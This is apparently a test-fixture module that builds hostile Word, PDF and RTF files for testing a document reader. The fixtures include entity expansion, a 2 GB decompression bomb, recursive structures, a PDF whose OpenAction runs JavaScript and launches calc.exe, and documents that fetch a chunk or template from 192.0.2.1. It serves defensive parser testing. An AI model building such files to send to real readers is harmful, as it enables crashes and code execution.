"""Word documents and PDFs that were made to harm a reader."""

import io
import zipfile
import zlib

from tests.exports.readers.made_documents import docx, encrypted_pdf, paragraph, run

__all__ = ["encrypted_pdf"]

_LINES = "".join(
    paragraph(f"{number}. Tuyên truyền phòng ngừa tệ nạn trong năm 2025") for number in range(1, 9)
)
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def entities_in_document() -> bytes:
    """Entities that grow in a document."""
    return docx(
        paragraph(inside="<w:r><w:t>&b;</w:t></w:r>"),
        declaration='<!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>',
    )


def deep_document() -> bytes:
    """A hundred thousand tables, each in the one before."""
    return docx("<w:tbl><w:tr><w:tc>" * 100_000 + "</w:tc></w:tr></w:tbl>" * 100_000)


def deep_boxes() -> bytes:
    """Text boxes in text boxes, as deep as the gate lets them be."""
    begin, end = "<w:p><w:r><w:pict><w:txbxContent>", "</w:txbxContent></w:pict></w:r></w:p>"
    return docx(begin * 60 + _LINES + end * 60)


def many_paragraphs() -> bytes:
    """As many empty runs as the gate just lets through."""
    return docx(f"<w:p>{run('a') * 8}</w:p>" * 40_000)


def alternative_chunk() -> bytes:
    """A document that wants another file put in its place, from elsewhere."""
    data = docx(_LINES + f'<w:altChunk xmlns:r="{_RELATIONS}" r:id="rId9"/>')
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{_RELATIONS}/aFChunk" Target="http://192.0.2.1/a.html" TargetMode="External"/>'
        "</Relationships>"
    )
    return _with(
        data, {"word/_rels/settings.xml.rels": link.encode(), "word/a.html": b"<script>alert(1)</script>"}
    )


def remote_template() -> bytes:
    """A document that wants its template, and the program in it, from another PC; and a program laid into it."""
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATIONS}/attachedTemplate" Target="\\\\192.0.2.1\\a.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    parts = {
        "word/_rels/settings.xml.rels": link.encode(),
        "word/embeddings/oleObject1.bin": b"MZ" + bytes(2_000),
    }
    return _with(docx(_LINES), parts)


def _with(data: bytes, parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return buffer.getvalue()


def _pdf(*objects: bytes, catalog: bytes = b"", tail: bytes = b"") -> bytes:
    body = [b"<</Type/Catalog/Pages 2 0 R%b>>" % catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", *objects]
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(body, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(data)
    lines = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 %d\n0000000000 65535 f \n%b" % (len(body) + 1, lines)
    return (
        data
        + table
        + b"trailer<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF" % (len(body) + 1, tail, start)
    )


def _page(content: bytes, more: bytes = b"") -> tuple[bytes, bytes]:
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%b>>>>"
        % more
    )
    return page, content


_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def _stream(data: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    return b"<</Length %d/Filter[%b]>>stream\n%b\nendstream" % (len(data), filters, data)


def huge_stream() -> bytes:
    """A page whose content unpacks to 2 GB."""
    inner = zlib.compress(bytes(2 * 2**30 // 1_000), 9)
    return _pdf(*_page(_stream(zlib.compress(inner * 1_000, 9), b"/FlateDecode/FlateDecode")), _FONT)


def endless_text() -> bytes:
    """A page that shows a text a million times."""
    content = zlib.compress(b"BT /F 9 Tf " + b"(Ke hoach phong ngua te nan) Tj " * 1_000_000 + b"ET", 9)
    return _pdf(*_page(_stream(content)), _FONT)


def form_in_itself() -> bytes:
    """A form that is drawn in itself."""
    content = zlib.compress(b"/X Do " * 1_000)
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Length 8>>"
    drawn = form + b"stream\n/X Do  \nendstream"
    return _pdf(*_page(_stream(content), b"/XObject<</X 6 0 R>>"), _FONT, drawn)


def pages_in_a_ring() -> bytes:
    """A tree of pages whose root is among its own leaves."""
    return _pdf(b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2147483647/Parent 3 0 R>>")


def script_in_pdf() -> bytes:
    """A PDF that wants to run a script and a program when it is opened."""
    act = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/AA<</WC<</S/Launch/F(calc.exe)>>>>"
    content = zlib.compress(
        b"BT /F 9 Tf 50 700 Td (Ke hoach phong ngua te nan mai dam nam 2025 cua huyen) Tj ET"
    )
    return _pdf(*_page(_stream(content)), _FONT, catalog=act)


def table_in_a_ring() -> bytes:
    """A table of objects that sends the reader back to itself."""
    data = _pdf(b"<</Type/Page/Parent 2 0 R>>", tail=b"/Prev 0000000000")
    at = data.rindex(b"startxref\n") + len(b"startxref\n")
    start = int(data[at : data.index(b"\n", at)])
    return data.replace(b"/Prev 0000000000", b"/Prev %010d" % start)


def deep_objects() -> bytes:
    """Arrays in arrays, a hundred thousand deep."""
    return _pdf(b"<</Type/Page/Parent 2 0 R/Annots %b%b>>" % (b"[" * 100_000, b"]" * 100_000))


def rich_text_named_document() -> bytes:
    """Rich text with a program in it, under the name of a Word document."""
    return b"{\\rtf1{\\object\\objocx{\\*\\objdata 01050000}}" + b"{" * 50_000 + b"KE HOACH}"
